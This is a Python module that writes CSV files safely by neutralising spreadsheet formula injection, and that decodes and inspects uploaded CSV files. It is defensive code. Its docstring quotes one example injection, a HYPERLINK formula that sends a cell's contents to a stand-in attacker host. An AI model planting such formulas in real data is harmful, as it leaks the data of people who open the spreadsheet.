"""The one CSV writer of the project: every CSV file Custodian writes goes through `csv_writer`.

Spreadsheet programs run a cell that starts with `=`, `+`, `-` or `@` as a formula (and some skip a leading
tab, carriage return or line feed first), so a customer who types `=HYPERLINK("http://evil.example/?x="&A1)`
as their mailing address could make the marketing team's spreadsheet send data away. OWASP's advice: put a
single quote in front of such a cell, so it is shown as the text it is.

Only text is neutralised. Numbers (int, float, Decimal) are written as numbers: a negative reading (a home
that feeds the grid) must stay the number -1.5, not become the text '-1.5, and a number can't carry a
formula. So columns that hold numbers pass numbers, never pre-formatted strings.

We don't use defusedcsv: it leaves cells that start with a tab or carriage return alone (both are on
OWASP's list) and lets number-looking text through, which would make whether a cell is neutralised depend
on what a customer typed rather than on the column's type.
"""

import codecs
import csv
import re
from decimal import Decimal

# Every CSV response says its character set: a reader left to guess takes Latin-1 on many systems and garbles
# names, addresses and the masked bank digits (•). A file a customer downloads to open in a spreadsheet also
# starts with the byte-order mark spreadsheet programs look for; our own importers read it (utf-8-sig).
CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
SPREADSHEET_BOM = "\ufeff"

# OWASP's list, line feed, and the full-width forms some spreadsheet locales read as the same operators.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def runs_as_formula(text: str) -> bool:
    """Whether a spreadsheet might run the text: it starts like a formula, or does so after blanks and
    control characters (an import that trims spaces, or skips a NUL, would see `=` first)."""
    # Most cells (names, addresses) start with a letter or digit: neither a blank nor a formula's start.
    if text[:1].isalnum():
        return False
    if text.startswith(FORMULA_STARTS):
        return True
    trimmed = text.lstrip()
    while trimmed and (ord(trimmed[0]) < 32 or trimmed[0] in "\x7f\u200b\u200e\u200f\ufeff"):
        trimmed = trimmed[1:].lstrip()
    return trimmed.startswith(FORMULA_STARTS)


def neutralise(cell):
    """A cell as it may be written: text starting like a formula gets a leading single quote."""
    if type(cell) is str:  # the commonest cell, before the checks that other types need
        return "'" + cell if runs_as_formula(cell) else cell
    if cell is None:
        return ""
    if isinstance(cell, bool):  # a bool is an int to Python; write it as the word
        return str(cell)
    if isinstance(cell, int | float | Decimal):
        return cell
    text = str(cell)
    return "'" + text if runs_as_formula(text) else text


class SafeWriter:
    """csv.writer's interface; every row's cells pass through `neutralise`."""

    def __init__(self, out, **fmtparams):
        self._writer = csv.writer(out, **fmtparams)

    def writerow(self, row):
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(out, **fmtparams) -> SafeWriter:
    return SafeWriter(out, **fmtparams)


# What a CSV file a person brings holds besides its text: a tab, a carriage return, a line feed.
_A_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def csv_text(data: bytes) -> str | None:
    """The text of a CSV file a person brings: UTF-16 by its byte-order mark (little- or big-endian: Excel's
    "Unicode Text" and some utilities' exports), UTF-8 (with or without the byte-order mark), else
    Windows-1252. Spreadsheet programs on Windows save "CSV" in the system's code page, Windows-1252 in the
    US, not UTF-8: one accented letter in a note ("é") would otherwise refuse the whole file. UTF-8 is tried
    before Windows-1252, since Windows-1252 reads almost any bytes. None for what is not text: UTF-32 (its
    byte-order mark starts as UTF-16's), UTF-16 that does not read to its end, UTF-8 with a NUL in it (half
    the bytes of UTF-16 without its byte-order mark are NULs), and what reads as Windows-1252 or UTF-16 only
    with control characters in it (a binary file)."""
    if data.startswith((codecs.BOM_UTF32_LE, codecs.BOM_UTF32_BE)):
        return None
    if data.startswith((codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE)):
        try:
            text = data.decode("utf-16")  # the byte-order mark says the order, and is left out
        except UnicodeDecodeError:
            return None
        return None if _A_CONTROL.search(text) else text
    try:
        text = data.decode("utf-8-sig")
    except UnicodeDecodeError:
        pass
    else:  # a NUL is valid UTF-8, and half the bytes of UTF-16 without its byte-order mark
        return None if "\x00" in text else text
    try:
        text = data.decode("cp1252")
    except UnicodeDecodeError:  # the five bytes Windows-1252 leaves undefined
        return None
    return None if _A_CONTROL.search(text) else text


SEPARATORS = {";": "semicolons", "\t": "tabs", "|": "vertical bars"}


def separator_used(header_line: str) -> str:
    """The character a header line separates its columns with when it is not the comma: ";" (a spreadsheet
    set to a language that writes decimal commas saves CSV so), a tab or "|"; "" when it holds a comma or
    none of them."""
    if "," in header_line:
        return ""
    counts = {c: header_line.count(c) for c in SEPARATORS}
    found = max(counts, key=counts.__getitem__)
    return found if counts[found] else ""
